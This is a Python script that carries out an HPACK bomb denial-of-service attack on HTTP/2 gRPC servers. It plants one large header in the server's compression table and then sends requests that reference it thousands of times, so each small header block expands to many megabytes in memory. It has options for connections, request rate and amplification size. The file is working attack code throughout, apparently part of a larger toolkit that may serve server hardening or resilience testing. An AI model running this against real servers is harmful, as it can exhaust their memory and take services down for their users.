"""HPACK bomb: one large header inserted into the dynamic table, then referenced thousands of times.

The first request of a connection adds "x-bomb: <--entry-size bytes>" to the server's HPACK table
(literal with incremental indexing); every request after that carries --references one-byte
references to it, so a 16 KB header block decodes to --references x --entry-size bytes (64 MB by
default). The other request headers are sent never-indexed, so the bomb stays at index 62.
"""
import time

import attack
import grpc_wire
import h2frames as f
from continuation_flood import hpack_length

BOMB_INDEX = 62  # the first (and only) dynamic-table entry


class Bomber:
    def __init__(self, connection, entry_size, references):
        self.connection = connection
        fields = [(name, value, True) for name, value in grpc_wire.request_headers(connection.authority, grpc_wire.HEALTH_CHECK)]
        plain = grpc_wire.new_encoder().encode(fields)
        insert = b"\x40" + hpack_length(6) + b"x-bomb" + hpack_length(entry_size) + b"b" * entry_size
        self.first = plain + insert + bytes([0x80 | BOMB_INDEX]) * references
        self.block = plain + bytes([0x80 | BOMB_INDEX]) * references
        self.next_stream = 1
        self.ready = connection.start()

    def send(self, max_frame):
        block = self.first if self.next_stream == 1 else self.block
        sent = self.connection.send(f.header_block_frames(self.next_stream, block, max_frame, end_stream=True), timeout=0.5)
        self.next_stream += 2
        return sent


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="requests per second per connection (0 = as fast as possible)")
    p.add_argument("--entry-size", type=int, default=4000, help="bytes of the inserted header value (the table holds 4096) [4000]")
    p.add_argument("--references", type=int, default=16000, help="references to it per request [16000]")
    p.add_argument("--max-requests", type=int, default=1_000_000, help="stop after this many requests in all")
    args = p.parse_args()
    report = attack.Report("hpack-bomb", args)
    bombers = [None] * args.connections
    started = time.monotonic()
    sent = 0
    while report.elapsed() < args.duration and sent < args.max_requests:
        for i, bomber in enumerate(bombers):
            if bomber is None or not bomber.connection.usable:
                if bomber is not None:
                    bomber.connection.close()
                    report.sent["reconnects"] += 1
                connection = attack.connect(args.target, report)
                bombers[i] = bomber = Bomber(connection, args.entry_size, args.references) if connection else None
                if bomber is None or not bomber.ready:
                    time.sleep(0.05)
                    continue
            if bomber.send(f.DEFAULT_MAX_FRAME_SIZE):
                sent += 1
            bomber.connection.drain()
        attack.pace(args.rate * args.connections, started, sent)
    report.sent["requests"] = sent
    report.sent["decoded bytes per request"] = args.entry_size * args.references
    for bomber in bombers:
        if bomber is not None:
            bomber.connection.drain(wait=0.1)
            bomber.connection.close()
    report.finish()


if __name__ == "__main__":
    main()
